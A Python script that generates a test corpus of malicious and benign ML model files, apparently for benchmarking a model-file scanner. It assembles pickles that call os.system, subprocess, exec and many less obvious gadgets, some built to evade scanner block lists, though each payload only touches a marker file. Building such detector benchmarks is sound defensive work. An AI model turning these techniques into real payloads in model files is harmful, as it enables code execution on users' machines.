#!/usr/bin/env python3
# ruff: noqa: E501  (long payload strings, templates and descriptions read better unwrapped)
"""Build dozor's benchmark corpus of malicious and benign ML model files.

    python bench/models/make_corpus.py OUTDIR [--marker-dir DIR] [--only-stdlib]

Writes OUTDIR/malicious/, OUTDIR/benign/ and OUTDIR/manifest.json.

Every malicious payload, if it were ever executed, only creates the file
``<marker-dir>/<technique-id>`` and does nothing else.  This script never loads,
unpickles or imports what it writes.

``--only-stdlib`` builds every file that the standard library (plus h5py and
py7zr, which dozor depends on) can produce: hand-assembled pickles, zips, tars,
compressed streams, protobuf (ONNX, TF SavedModel), GGUF, safetensors, npy and
Keras files.  The full mode adds files made by the real libraries (torch,
scikit-learn, joblib, xgboost, lightgbm, pandas, keras, onnx, gguf,
safetensors, dill, cloudpickle).  Output is deterministic for given arguments.
"""

from __future__ import annotations

import argparse
import bz2
import codecs
import gzip
import io
import json
import lzma
import marshal
import os
import shlex
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

FIXED_DATE = (2020, 1, 1, 0, 0, 0)
FIXED_MTIME = 1577836800  # 2020-01-01T00:00:00Z
SEED = 1234


# ---------------------------------------------------------------------------
# A small pickle opcode assembler
# ---------------------------------------------------------------------------


class Emit:
    """A value that is produced by emitting opcodes (a call, a memo get, ...)."""

    def __init__(self, fn: Callable[[Pk], Any]):
        self.fn = fn


class Pk:
    """Assemble a pickle stream opcode by opcode.

    ``val()`` pushes Python values with opcodes allowed in ``self.proto``;
    ``Emit`` leaves let payloads nest inside ordinary data.
    """

    def __init__(self, proto: int = 2, header: bool = True, stack_global: bool = False):
        self.proto = proto
        self.b = bytearray()
        self.memo_next = 0
        self.use_stack_global = stack_global
        if header and proto >= 2:
            self.b += b"\x80" + bytes([proto])

    # -- raw
    def raw(self, data: bytes) -> Pk:
        self.b += data
        return self

    def data(self) -> bytes:
        return bytes(self.b)

    # -- structural opcodes
    def mark(self):
        return self.raw(b"(")

    def stop(self):
        return self.raw(b".")

    def pop(self):
        return self.raw(b"0")

    def pop_mark(self):
        return self.raw(b"1")

    def dup(self):
        return self.raw(b"2")

    def reduce(self):
        return self.raw(b"R")

    def build(self):
        return self.raw(b"b")

    def tuple_from_mark(self):
        return self.raw(b"t")

    def newobj(self):
        return self.raw(b"\x81")

    def newobj_ex(self):
        return self.raw(b"\x92")

    def obj(self):
        return self.raw(b"o")

    def stack_global(self):
        return self.raw(b"\x93")

    def append(self):
        return self.raw(b"a")

    def appends(self):
        return self.raw(b"e")

    def setitem(self):
        return self.raw(b"s")

    def setitems(self):
        return self.raw(b"u")

    def binpersid(self):
        return self.raw(b"Q")

    def none(self):
        return self.raw(b"N")

    def empty_tuple(self):
        return self.raw(b")" if self.proto >= 1 else b"(t")

    def empty_list(self):
        return self.raw(b"]" if self.proto >= 1 else b"(l")

    def empty_dict(self):
        return self.raw(b"}" if self.proto >= 1 else b"(d")

    def glob(self, module: str, name: str):
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def sglobal(self, module: str, name: str):
        self.ustr(module)
        self.ustr(name)
        return self.stack_global()

    def inst(self, module: str, name: str):
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def frame(self, size: int):
        return self.raw(b"\x95" + struct.pack("<Q", size))

    def memoize(self) -> int:
        idx = self.memo_next
        if self.proto >= 4:
            self.raw(b"\x94")
            self.memo_next += 1
        else:
            self.put(idx)
        return idx

    def put(self, idx: int):
        if self.proto == 0:
            self.raw(b"p%d\n" % idx)
        elif idx < 256:
            self.raw(b"q" + bytes([idx]))
        else:
            self.raw(b"r" + struct.pack("<I", idx))
        self.memo_next = max(self.memo_next, idx + 1)
        return self

    def get(self, idx: int):
        if self.proto == 0:
            return self.raw(b"g%d\n" % idx)
        if idx < 256:
            return self.raw(b"h" + bytes([idx]))
        return self.raw(b"j" + struct.pack("<I", idx))

    def ext(self, code: int):
        if code < 256:
            return self.raw(b"\x82" + bytes([code]))
        if code < 65536:
            return self.raw(b"\x83" + struct.pack("<H", code))
        return self.raw(b"\x84" + struct.pack("<i", code))

    # -- scalar values
    def sstr(self, s: str):
        """Python-2 style STRING / BINSTRING (text in protocol 0)."""
        raw = s.encode("latin-1")
        if self.proto == 0:
            return self.raw(b"S" + repr(raw)[1:].encode("ascii") + b"\n")
        if len(raw) < 256:
            return self.raw(b"U" + bytes([len(raw)]) + raw)
        return self.raw(b"T" + struct.pack("<i", len(raw)) + raw)

    def ustr(self, s: str):
        if self.proto == 0:
            esc = (
                s.replace("\\", "\\u005c")
                .replace("\0", "\\u0000")
                .replace("\n", "\\u000a")
                .replace("\r", "\\u000d")
                .replace("\x1a", "\\u001a")
            )
            return self.raw(b"V" + esc.encode("raw-unicode-escape") + b"\n")
        raw = s.encode("utf-8", "surrogatepass")
        if self.proto >= 4 and len(raw) < 256:
            return self.raw(b"\x8c" + bytes([len(raw)]) + raw)
        return self.raw(b"X" + struct.pack("<I", len(raw)) + raw)

    def int_(self, v: int):
        if self.proto == 0:
            return self.raw(b"I%d\n" % v)
        if 0 <= v < 256:
            return self.raw(b"K" + bytes([v]))
        if 0 <= v < 65536:
            return self.raw(b"M" + struct.pack("<H", v))
        if -(2**31) <= v < 2**31:
            return self.raw(b"J" + struct.pack("<i", v))
        if self.proto >= 2:
            n = (v.bit_length() + 8) // 8
            enc = v.to_bytes(n, "little", signed=True)
            return self.raw(b"\x8a" + bytes([len(enc)]) + enc)
        return self.raw(b"L%dL\n" % v)

    def bytes_(self, v: bytes):
        if self.proto >= 3:
            if len(v) < 256:
                return self.raw(b"C" + bytes([len(v)]) + v)
            return self.raw(b"B" + struct.pack("<I", len(v)) + v)
        # protocols 0-2 spell bytes as _codecs.encode(latin-1 str, 'latin1')
        self.glob("_codecs", "encode")
        self.val((v.decode("latin-1"), "latin1"))
        return self.reduce()

    def val(self, v: Any):
        if isinstance(v, Emit):
            v.fn(self)
        elif v is None:
            self.none()
        elif v is True or v is False:
            if self.proto >= 2:
                self.raw(b"\x88" if v else b"\x89")
            else:
                self.raw(b"I01\n" if v else b"I00\n")
        elif isinstance(v, int):
            self.int_(v)
        elif isinstance(v, float):
            if self.proto == 0:
                self.raw(b"F" + repr(v).encode() + b"\n")
            else:
                self.raw(b"G" + struct.pack(">d", v))
        elif isinstance(v, str):
            self.ustr(v)
        elif isinstance(v, bytearray) and self.proto >= 5:
            self.raw(b"\x96" + struct.pack("<Q", len(v)) + bytes(v))
        elif isinstance(v, (bytes, bytearray)):
            self.bytes_(bytes(v))
        elif isinstance(v, tuple):
            if not v:
                self.empty_tuple()
            elif self.proto >= 2 and len(v) <= 3:
                for x in v:
                    self.val(x)
                self.raw(bytes([0x84 + len(v)]))
            else:
                self.mark()
                for x in v:
                    self.val(x)
                self.tuple_from_mark()
        elif isinstance(v, list):
            if self.proto == 0:
                self.raw(b"(l")
                for x in v:
                    self.val(x)
                    self.append()
            else:
                self.empty_list()
                if v:
                    self.mark()
                    for x in v:
                        self.val(x)
                    self.appends()
        elif isinstance(v, dict):
            if self.proto == 0:
                self.raw(b"(d")
                for k, x in v.items():
                    self.val(k)
                    self.val(x)
                    self.setitem()
            else:
                self.empty_dict()
                if v:
                    self.mark()
                    for k, x in v.items():
                        self.val(k)
                        self.val(x)
                    self.setitems()
        else:
            raise TypeError(f"cannot assemble {type(v)!r}")
        return self

    # -- calls
    def target(self, t: Any):
        if isinstance(t, tuple):
            if self.use_stack_global:
                self.sglobal(*t)
            else:
                self.glob(*t)
        else:
            self.val(t)
        return self

    def call(self, target: Any, *args: Any):
        """Push target(*args): GLOBAL/STACK_GLOBAL (or an Emit), args tuple, REDUCE."""
        self.target(target)
        self.val(tuple(args))
        return self.reduce()


def call(target: Any, *args: Any) -> Emit:
    return Emit(lambda pk: pk.call(target, *args))


def getattr_(obj: Any, name: str) -> Emit:
    return call(("builtins", "getattr"), obj, name)


def glob(module: str, name: str) -> Emit:
    return Emit(lambda pk: pk.target((module, name)))


def whole(proto: int, value: Any, **kw: Any) -> bytes:
    """A complete pickle whose result is ``value`` (which may contain Emits)."""
    pk = Pk(proto, **kw)
    pk.val(value)
    return pk.stop().data()


# ---------------------------------------------------------------------------
# Other encoders: protobuf, zip, tar, npy, safetensors, gguf
# ---------------------------------------------------------------------------


def pb_varint(n: int) -> bytes:
    if n < 0:
        n += 1 << 64
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_int(field: int, v: int) -> bytes:
    return pb_varint(field << 3) + pb_varint(v)


def pb_bytes(field: int, v: bytes | str) -> bytes:
    if isinstance(v, str):
        v = v.encode()
    return pb_varint((field << 3) | 2) + pb_varint(len(v)) + v


def pb_msg(field: int, *parts: bytes) -> bytes:
    return pb_bytes(field, b"".join(parts))


def pb_float(field: int, v: float) -> bytes:
    return pb_varint((field << 3) | 5) + struct.pack("<f", v)


def zinfo(name: str, compress: int = zipfile.ZIP_STORED) -> zipfile.ZipInfo:
    zi = zipfile.ZipInfo(name, date_time=FIXED_DATE)
    zi.compress_type = compress
    zi.external_attr = 0o644 << 16
    zi.create_system = 3
    return zi


def zip_bytes(entries: Iterable[tuple[Any, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    """entries: (name or ZipInfo, data). Duplicate names are written as given."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data in entries:
                zi = name if isinstance(name, zipfile.ZipInfo) else zinfo(name, compress)
                zf.writestr(zi, data)
    return buf.getvalue()


def zip_records(data: bytes) -> list[dict[str, int | str]]:
    """Locate each central-directory record and its local header (no zipfile)."""
    eocd = data.rfind(b"PK\x05\x06")
    count, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10 : eocd + 20])
    recs = []
    p = cd_off
    for _ in range(count):
        nlen, xlen, clen = struct.unpack("<HHH", data[p + 28 : p + 34])
        lho = struct.unpack("<I", data[p + 42 : p + 46])[0]
        name = data[p + 46 : p + 46 + nlen].decode("utf-8", "replace")
        lnlen, lxlen = struct.unpack("<HH", data[lho + 26 : lho + 30])
        csize = struct.unpack("<I", data[p + 20 : p + 24])[0]
        recs.append(
            {"name": name, "cd": p, "local": lho, "data": lho + 30 + lnlen + lxlen, "csize": csize}
        )
        p += 46 + nlen + xlen + clen
    return recs


def zip_patch(
    data: bytes, index: int, *, crc: int | None = None, flag_or: int = 0, corrupt: bool = False
) -> bytes:
    """Patch the index-th member: CRC, general-purpose flags, or its compressed bytes."""
    out = bytearray(data)
    r = zip_records(data)[index]
    if crc is not None:
        struct.pack_into("<I", out, r["local"] + 14, crc)
        struct.pack_into("<I", out, r["cd"] + 16, crc)
    if flag_or:
        for off in (r["local"] + 6, r["cd"] + 8):
            struct.pack_into("<H", out, off, struct.unpack_from("<H", out, off)[0] | flag_or)
    if corrupt:
        start, n = int(r["data"]), int(r["csize"])
        for i in range(start, start + n):
            out[i] = (out[i] * 7 + 0xA5) & 0xFF
        out[start] = 0xFF  # deflate block type 3: always invalid
    return bytes(out)


def zip_replace_members(data: bytes, replace: dict[str, bytes]) -> bytes:
    """Rewrite a zip, swapping the contents of some members (fixed timestamps)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    entries = []
    for zi in src.infolist():
        body = replace.get(zi.filename)
        if body is None:
            body = src.read(zi)
        entries.append((zinfo(zi.filename, zi.compress_type), body))
    return zip_bytes(entries)


def tar_bytes(entries: Iterable[tuple[Any, bytes | None]]) -> bytes:
    """entries: (name or TarInfo, data or None for non-regular members)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in entries:
            ti = name if isinstance(name, tarfile.TarInfo) else tarfile.TarInfo(name)
            ti.mtime = FIXED_MTIME
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = "root"
            if data is None:
                tf.addfile(ti)
            else:
                ti.size = len(data)
                if not isinstance(name, tarfile.TarInfo):
                    ti.mode = 0o644
                tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)


def npy_bytes(descr: str, shape: tuple[int, ...], body: bytes, fortran: bool = False) -> bytes:
    header = f"{{'descr': {descr!r}, 'fortran_order': {fortran!r}, 'shape': {shape!r}, }}"
    pre = 6 + 2 + 2
    pad = (64 - (pre + len(header) + 1) % 64) % 64
    h = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body


def safetensors_bytes(header: dict[str, Any], body: bytes, header_len: int | None = None) -> bytes:
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    n = len(h) if header_len is None else header_len
    return struct.pack("<Q", n) + h + body


GGUF_U8, GGUF_I8, GGUF_U16, GGUF_I16, GGUF_U32, GGUF_I32, GGUF_F32, GGUF_BOOL = range(8)
GGUF_STR, GGUF_ARR, GGUF_U64, GGUF_I64, GGUF_F64 = 8, 9, 10, 11, 12
_GGUF_FMT = {
    GGUF_U8: "<B",
    GGUF_I8: "<b",
    GGUF_U16: "<H",
    GGUF_I16: "<h",
    GGUF_U32: "<I",
    GGUF_I32: "<i",
    GGUF_F32: "<f",
    GGUF_BOOL: "<?",
    GGUF_U64: "<Q",
    GGUF_I64: "<q",
    GGUF_F64: "<d",
}


def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def _gguf_val(t: int, v: Any) -> bytes:
    if t == GGUF_STR:
        return _gguf_str(v)
    if t == GGUF_ARR:
        et, items = v
        return struct.pack("<IQ", et, len(items)) + b"".join(_gguf_val(et, x) for x in items)
    return struct.pack(_GGUF_FMT[t], v)


def gguf_bytes(
    kvs: list[tuple[str, int, Any]],
    tensors: list[tuple[str, tuple[int, ...], bytes]],
    alignment: int = 32,
) -> bytes:
    """GGUF v3 with F32 tensors (ggml type 0)."""
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs)))
    for k, t, v in kvs:
        out += _gguf_str(k) + struct.pack("<I", t) + _gguf_val(t, v)
    offset = 0
    blobs = []
    for name, dims, data in tensors:
        out += _gguf_str(name) + struct.pack("<I", len(dims))
        out += b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", 0, offset)
        blobs.append((offset, data))
        offset += len(data)
        offset += (alignment - offset % alignment) % alignment
    out += b"\0" * ((alignment - len(out) % alignment) % alignment)
    base = len(out)
    for off, data in blobs:
        out += b"\0" * (base + off - len(out))
        out += data
    return bytes(out)


def floats(n: int, seed: int = 0) -> list[float]:
    """Deterministic small floats without numpy."""
    x = seed * 2654435761 % 2**32 or 1
    res = []
    for _ in range(n):
        x = (1103515245 * x + 12345) % 2**31
        res.append(round((x / 2**31 - 0.5) * 0.2, 6))
    return res


def f32(values: list[float]) -> bytes:
    return struct.pack(f"<{len(values)}f", *values)


# ---------------------------------------------------------------------------
# Corpus bookkeeping
# ---------------------------------------------------------------------------


class Corpus:
    def __init__(self, outdir: Path, marker_dir: Path, only_stdlib: bool):
        self.out = outdir
        self.marker_dir = marker_dir
        self.only_stdlib = only_stdlib
        self.entries: list[dict[str, str]] = []
        self.skipped: list[str] = []

    # marker helpers -- the only thing any payload does
    def mpath(self, tech: str) -> str:
        return str(self.marker_dir / tech)

    def cmd(self, tech: str) -> str:
        return "touch " + shlex.quote(self.mpath(tech))

    def argv(self, tech: str) -> list[str]:
        return ["touch", self.mpath(tech)]

    def code(self, tech: str) -> str:
        return f"open({self.mpath(tech)!r}, 'w').close()"

    def path(self, rel: str) -> Path:
        p = self.out / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def add(
        self,
        rel: str,
        data: bytes | None,
        label: str,
        technique: str,
        description: str,
        fmt: str = "",
        mode: str = "stdlib",
    ) -> None:
        if any(e["file"] == rel for e in self.entries):
            raise ValueError(f"duplicate corpus file {rel}")
        if data is not None:
            self.path(rel).write_bytes(data)
        elif not (self.out / rel).exists():
            raise FileNotFoundError(rel)
        self.entries.append(
            {
                "file": rel,
                "label": label,
                "technique": technique,
                "description": description,
                "format": fmt,
                "mode": mode,
            }
        )

    def mal(
        self,
        name: str,
        data: bytes | None,
        technique: str,
        description: str,
        fmt: str = "pickle",
        mode: str = "stdlib",
    ) -> None:
        self.add("malicious/" + name, data, "malicious", technique, description, fmt, mode)

    def ben(
        self,
        name: str,
        data: bytes | None,
        technique: str,
        description: str,
        fmt: str = "pickle",
        mode: str = "stdlib",
    ) -> None:
        self.add("benign/" + name, data, "benign", technique, description, fmt, mode)


# ---------------------------------------------------------------------------
# Pickle payload building blocks
# ---------------------------------------------------------------------------


def os_system(c: Corpus, tech: str, module: str = "os") -> Emit:
    return call((module, "system"), c.cmd(tech))


def os_system_pickle(c: Corpus, tech: str, proto: int = 2) -> bytes:
    return whole(proto, os_system(c, tech))


def torch_tensor(
    storage: str, key: str, numel: int, shape: tuple[int, ...], requires_grad: bool = False
) -> Emit:
    """torch._utils._rebuild_tensor_v2 over a persistent-id storage, as torch.save writes it."""
    stride = []
    acc = 1
    for d in reversed(shape):
        stride.insert(0, acc)
        acc *= d

    def fn(pk: Pk) -> None:
        pk.glob("torch._utils", "_rebuild_tensor_v2")
        pk.mark()
        pk.val(("storage", glob("torch", storage), key, "cpu", numel))
        pk.binpersid()
        pk.val(0)
        pk.val(tuple(shape))
        pk.val(tuple(stride))
        pk.val(requires_grad)
        pk.val(call(("collections", "OrderedDict")))
        pk.tuple_from_mark()
        pk.reduce()

    return Emit(fn)


def torch_state_dict_pickle(
    tensors: list[tuple[str, str, str, tuple[int, ...]]],
    extra: list[tuple[str, Any]] | None = None,
    extra_first: bool = False,
) -> bytes:
    """An OrderedDict state_dict pickle (protocol 2) in torch.save's layout."""
    pk = Pk(2)
    pk.call(("collections", "OrderedDict"))
    items: list[tuple[str, Any]] = []
    for name, storage, key, shape in tensors:
        n = 1
        for d in shape:
            n *= d
        items.append((name, torch_tensor(storage, key, n, shape)))
    if extra:
        items = (list(extra) + items) if extra_first else (items + list(extra))
    pk.mark()
    for k, v in items:
        pk.val(k)
        pk.val(v)
    pk.setitems()
    pk.val({"_metadata": call(("collections", "OrderedDict"), [("", {"version": 1})])})
    pk.build()
    return pk.stop().data()


LINEAR_TENSORS = [
    ("fc.weight", "FloatStorage", "0", (4, 8)),
    ("fc.bias", "FloatStorage", "1", (4,)),
]


def torch_zip(
    prefix: str,
    data_pkl: bytes | None,
    extra: list[tuple[str, bytes]] | None = None,
    order: str = "std",
) -> bytes:
    members: list[tuple[str, bytes]] = []
    if data_pkl is not None:
        members.append((f"{prefix}/data.pkl", data_pkl))
    members += [
        (f"{prefix}/.format_version", b"1"),
        (f"{prefix}/.storage_alignment", b"64"),
        (f"{prefix}/byteorder", b"little"),
        (f"{prefix}/data/0", f32(floats(32, 1))),
        (f"{prefix}/data/1", f32(floats(4, 2))),
        (f"{prefix}/version", b"3\n"),
        (f"{prefix}/.data/serialization_id", b"0" * 40),
    ]
    if extra:
        members += extra
    return zip_bytes(members)


def benign_torch_zip(prefix: str = "archive") -> bytes:
    return torch_zip(prefix, torch_state_dict_pickle(LINEAR_TENSORS))


def malicious_data_pkl(c: Corpus, tech: str) -> bytes:
    return torch_state_dict_pickle(LINEAR_TENSORS, extra=[("fc.extra_state", os_system(c, tech))])


# ---------------------------------------------------------------------------
# stdlib builders: raw pickles
# ---------------------------------------------------------------------------


def build_pickle_protocols(c: Corpus) -> None:
    # protocol 0: text opcodes only, the classic exploit form
    t = "pkl_proto0"
    pk = Pk(0)
    pk.glob("os", "system").mark().sstr(c.cmd(t)).tuple_from_mark().reduce().stop()
    c.mal(
        "pkl_proto0.pkl",
        pk.data(),
        t,
        "protocol 0 text pickle: os.system via GLOBAL/MARK/STRING/TUPLE/REDUCE",
    )

    t = "pkl_proto1"
    pk = Pk(1)
    pk.empty_list().mark().val("model").val(os_system(c, t)).appends().stop()
    c.mal(
        "pkl_proto1.pkl",
        pk.data(),
        t,
        "protocol 1 binary opcodes (no PROTO): os.system inside a list",
    )

    t = "pkl_proto2"
    c.mal(
        "pkl_proto2.pkl",
        whole(2, {"weights": [0.5, 1.5], "hook": os_system(c, t)}),
        t,
        "protocol 2: os.system as a dict value",
    )

    t = "pkl_proto3"
    c.mal(
        "pkl_proto3.pkl",
        whole(3, {"blob": b"\x00\x01", "hook": os_system(c, t)}),
        t,
        "protocol 3 (BINBYTES present): os.system as a dict value",
    )

    t = "pkl_proto4"
    body = Pk(4, header=False, stack_global=True)
    body.val({"name": "model", "hook": os_system(c, t)})
    body.stop()
    pk = Pk(4)
    pk.frame(len(body.data()))
    pk.raw(body.data())
    c.mal("pkl_proto4.pkl", pk.data(), t, "protocol 4: FRAME + STACK_GLOBAL os.system")

    t = "pkl_proto5"
    body = Pk(5, header=False, stack_global=True)
    body.val([bytearray(b"\x00" * 16), os_system(c, t)])
    body.stop()
    pk = Pk(5)
    pk.frame(len(body.data()))
    pk.raw(body.data())
    c.mal(
        "pkl_proto5.pkl", pk.data(), t, "protocol 5: FRAME, BYTEARRAY8 and STACK_GLOBAL os.system"
    )

    t = "pkl_multi_stream"
    first = whole(2, {"format": "checkpoint", "version": 3})
    c.mal(
        "pkl_multi_stream.pkl",
        first + os_system_pickle(c, t),
        t,
        "two pickles in one stream; only the second carries os.system",
    )
    mid = whole(2, [1, 2, 3])
    c.mal(
        "pkl_multi_stream_third.pkl",
        first + mid + os_system_pickle(c, t, 4),
        t,
        "three pickles in one stream; the third (protocol 4) carries os.system",
    )


def build_pickle_classic(c: Corpus) -> None:
    t = "pkl_posix_system"
    c.mal("pkl_posix_system.pkl", whole(2, os_system(c, t, "posix")), t, "posix.system")
    t = "pkl_nt_system"
    c.mal(
        "pkl_nt_system.pkl",
        whole(2, os_system(c, t, "nt")),
        t,
        "nt.system (Windows spelling of os.system)",
    )
    t = "pkl_subprocess_popen"
    c.mal(
        "pkl_subprocess_popen.pkl",
        whole(2, call(("subprocess", "Popen"), c.argv(t))),
        t,
        "subprocess.Popen([...])",
    )
    t = "pkl_subprocess_check_output"
    c.mal(
        "pkl_subprocess_check_output.pkl",
        whole(2, call(("subprocess", "check_output"), c.argv(t))),
        t,
        "subprocess.check_output([...])",
    )
    t = "pkl_builtins_exec"
    c.mal(
        "pkl_builtins_exec.pkl",
        whole(2, call(("builtins", "exec"), c.code(t))),
        t,
        "builtins.exec(source)",
    )
    t = "pkl_builtins_eval"
    c.mal(
        "pkl_builtins_eval.pkl",
        whole(2, call(("builtins", "eval"), c.code(t))),
        t,
        "builtins.eval(expression)",
    )
    t = "pkl_py2_builtin_eval"
    c.mal(
        "pkl_py2_builtin_eval.pkl",
        whole(0, call(("__builtin__", "eval"), c.code(t))),
        t,
        "__builtin__.eval (Python 2 module name, mapped to builtins by the unpickler)",
    )
    t = "pkl_import_getattr"
    osmod = call(("builtins", "__import__"), "os")
    c.mal(
        "pkl_import_getattr.pkl",
        whole(2, call(getattr_(osmod, "system"), c.cmd(t))),
        t,
        "builtins.__import__('os') then builtins.getattr(..., 'system')",
    )
    t = "pkl_getattr_chain"
    fn = getattr_(getattr_(glob("argparse", "ArgumentParser"), "__init__"), "__globals__")
    osmod = call(getattr_(fn, "get"), "_os")
    c.mal(
        "pkl_getattr_chain.pkl",
        whole(2, call(getattr_(osmod, "system"), c.cmd(t))),
        t,
        "builtins.getattr chain: argparse.ArgumentParser.__init__.__globals__['_os'].system",
    )
    t = "pkl_runpy"
    c.mal(
        "pkl_runpy.pkl",
        whole(2, call(("runpy", "_run_code"), c.code(t), {})),
        t,
        "runpy._run_code(source, {})",
    )
    t = "pkl_webbrowser"
    browser = call(("webbrowser", "get"), "touch %s")
    c.mal(
        "pkl_webbrowser_get.pkl",
        whole(2, call(getattr_(browser, "open"), c.mpath(t))),
        t,
        "webbrowser.get('touch %s').open(path): a GenericBrowser that runs touch",
    )
    # webbrowser.open after registering a preferred 'browser' that is really touch
    reg = Emit(
        lambda pk: (
            pk.call(("functools", "partial"), glob("webbrowser", "register")),
            pk.val(
                (
                    glob("webbrowser", "register"),
                    ("dz", None, call(("webbrowser", "GenericBrowser"), ["touch", "%s"])),
                    {"preferred": True},
                    None,
                )
            ),
            pk.build(),
        )
    )
    c.mal(
        "pkl_webbrowser_open.pkl",
        whole(2, [call(reg), call(("webbrowser", "open"), c.mpath(t))]),
        t,
        "webbrowser.register(preferred=True) via functools.partial+BUILD, then webbrowser.open(path)",
    )
    t = "pkl_socket"
    sock = call(("socket", "socket"), 1)  # AF_UNIX: bind() creates the marker as a socket file
    c.mal(
        "pkl_socket.pkl",
        whole(2, call(getattr_(sock, "bind"), c.mpath(t))),
        t,
        "socket.socket(AF_UNIX).bind(path)",
    )


def build_pickle_bypasses(c: Corpus) -> None:
    t = "pkl_pip_main"
    args = ["--isolated", "--disable-pip-version-check", "--no-input", "--log", c.mpath(t), "list"]
    c.mal(
        "pkl_pip_main.pkl",
        whole(2, call(("pip", "main"), args)),
        t,
        "pip.main([... '--log', path, 'list'])",
    )
    t = "pkl_pip_internal"
    args = ["--isolated", "--disable-pip-version-check", "--no-input", "--log", c.mpath(t), "list"]
    c.mal(
        "pkl_pip_internal.pkl",
        whole(2, call(("pip._internal.cli.main", "main"), args)),
        t,
        "pip._internal.cli.main.main([... '--log', path, 'list'])",
    )
    t = "pkl_pkgutil_resolve_name"
    c.mal(
        "pkl_pkgutil_resolve_name.pkl",
        whole(2, call(call(("pkgutil", "resolve_name"), "os:system"), c.cmd(t))),
        t,
        "pkgutil.resolve_name('os:system')(cmd)",
    )
    t = "pkl_importlib_import_module"
    mod = call(("importlib", "import_module"), "subprocess")
    c.mal(
        "pkl_importlib_import_module.pkl",
        whole(2, call(getattr_(mod, "call"), c.argv(t))),
        t,
        "importlib.import_module('subprocess').call([...])",
    )
    t = "pkl_asyncio_subprocess"
    coro = call(("asyncio.subprocess", "create_subprocess_shell"), c.cmd(t))
    c.mal(
        "pkl_asyncio_subprocess.pkl",
        whole(2, call(("asyncio", "run"), coro)),
        t,
        "asyncio.run(asyncio.subprocess.create_subprocess_shell(cmd))",
    )
    t = "pkl_asyncio_unix_events"
    loop = call(("asyncio.unix_events", "_UnixSelectorEventLoop"))
    coro = call(("asyncio.subprocess", "create_subprocess_exec"), *c.argv(t))
    c.mal(
        "pkl_asyncio_unix_events.pkl",
        whole(2, call(getattr_(loop, "run_until_complete"), coro)),
        t,
        "asyncio.unix_events._UnixSelectorEventLoop().run_until_complete(create_subprocess_exec(...))",
    )
    t = "pkl_operator_attrgetter"
    osmod = call(call(("_operator", "itemgetter"), "os"), glob("sys", "modules"))
    fn = call(call(("_operator", "attrgetter"), "system"), osmod)
    c.mal(
        "pkl_operator_attrgetter.pkl",
        whole(2, call(fn, c.cmd(t))),
        t,
        "_operator.attrgetter('system')(_operator.itemgetter('os')(sys.modules))(cmd)",
    )
    t = "pkl_operator_methodcaller"
    c.mal(
        "pkl_operator_methodcaller.pkl",
        whole(
            2, call(call(("operator", "methodcaller"), "system", c.cmd(t)), glob("shutil", "os"))
        ),
        t,
        "operator.methodcaller('system', cmd)(shutil.os)",
    )
    t = "pkl_functools_partial"
    part = call(("functools", "partial"), glob("posix", "system"), c.cmd(t))
    c.mal(
        "pkl_functools_partial.pkl",
        whole(2, call(part)),
        t,
        "functools.partial(posix.system, cmd)()",
    )
    t = "pkl_numpy_runstring"
    c.mal(
        "pkl_numpy_runstring.pkl",
        whole(2, call(("numpy.testing._private.utils", "runstring"), c.code(t), {})),
        t,
        "numpy.testing._private.utils.runstring(source, {}) (exec)",
    )
    t = "pkl_code_interpreter"
    interp = call(("code", "InteractiveInterpreter"))
    c.mal(
        "pkl_code_interpreter.pkl",
        whole(2, call(getattr_(interp, "runsource"), c.code(t))),
        t,
        "code.InteractiveInterpreter().runsource(source)",
    )
    t = "pkl_codeop"
    codeobj = call(("codeop", "compile_command"), c.code(t))
    c.mal(
        "pkl_codeop.pkl",
        whole(2, call(getattr_(call(("code", "InteractiveConsole")), "runcode"), codeobj)),
        t,
        "codeop.compile_command(source) run by code.InteractiveConsole().runcode",
    )
    t = "pkl_cprofile_run"
    c.mal(
        "pkl_cprofile_run.pkl",
        whole(2, call(("cProfile", "run"), c.code(t))),
        t,
        "cProfile.run(statement)",
    )
    t = "pkl_profile_run"
    c.mal(
        "pkl_profile_run.pkl",
        whole(2, call(("profile", "run"), c.code(t))),
        t,
        "profile.run(statement)",
    )
    t = "pkl_timeit"
    c.mal(
        "pkl_timeit.pkl",
        whole(2, call(("timeit", "timeit"), c.code(t), "pass", glob("time", "perf_counter"), 1)),
        t,
        "timeit.timeit(stmt, 'pass', time.perf_counter, 1)",
    )
    t = "pkl_pty_spawn"
    c.mal("pkl_pty_spawn.pkl", whole(2, call(("pty", "spawn"), c.argv(t))), t, "pty.spawn([...])")
    t = "pkl_torch_load_nested"
    nested = os_system_pickle(c, t)
    bio = call(("io", "BytesIO"), nested)
    outer = call(("torch.serialization", "load"), bio, None, glob("torch.serialization", "pickle"))
    c.mal(
        "pkl_torch_load_nested.pkl",
        whole(3, outer),
        t,
        "torch.serialization.load(BytesIO(<pickle bytes>), None, pickle) -> weights_only=False",
    )
    outer = call(("torch", "serialization.load"), bio, None, glob("torch", "serialization.pickle"))
    c.mal(
        "pkl_torch_load_nested_dotted.pkl",
        whole(4, outer, stack_global=True),
        t,
        "STACK_GLOBAL ('torch', 'serialization.load') on nested pickle bytes (protocol 4 dotted lookup)",
    )
